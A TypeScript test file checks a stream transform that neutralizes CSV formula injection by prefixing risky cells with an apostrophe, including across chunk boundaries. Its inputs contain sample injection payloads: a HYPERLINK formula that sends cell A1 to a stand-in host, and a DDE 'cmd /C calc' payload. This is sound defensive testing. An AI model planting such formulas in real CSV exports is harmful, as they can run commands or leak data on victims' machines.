import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { CsvFormulaNeutralizer } from '../../src/domain/csv-formulas.ts';

const neutralize = async (text: string, chunkSize = 3) => {
  const bytes = Buffer.from(text);
  const chunks = Array.from({ length: Math.ceil(bytes.length / chunkSize) }, (_, i) => bytes.subarray(i * chunkSize, (i + 1) * chunkSize));
  return (await buffer(Readable.from(chunks).pipe(new CsvFormulaNeutralizer()))).toString();
};

describe('CSV formula neutralization', () => {
  it('prefixes every cell that a spreadsheet would run as a formula, across chunk boundaries', async () => {
    const input = 'name,note\r\n=HYPERLINK("http://x.test?"&A1),+cmd|\'/C calc\'!A0\n@SUM(1+1),-2\n\tx,"=1+1"\n"\r=2",ok;=3\n';
    const expected = "name,note\r\n'=HYPERLINK(\"http://x.test?\"&A1),'+cmd|'/C calc'!A0\n'@SUM(1+1),'-2\n'\tx,\"'=1+1\"\n\"'\r=2\",ok;'=3\n";
    for (const size of [1, 2, 3, 7, 1000]) expect(await neutralize(input, size)).toBe(expected);
  });

  it('leaves formula characters inside cells, quoted separators and escaped quotes alone', async () => {
    const input = 'a=b,"x,=y","say ""=hi""",1-2\n"multi\nline=",done\n';
    expect(await neutralize(input, 2)).toBe(input);
  });

  it('judges the first cell after a byte order mark', async () => {
    expect(await neutralize('\uFEFF=1,2\n', 1)).toBe("\uFEFF'=1,2\n");
  });
});
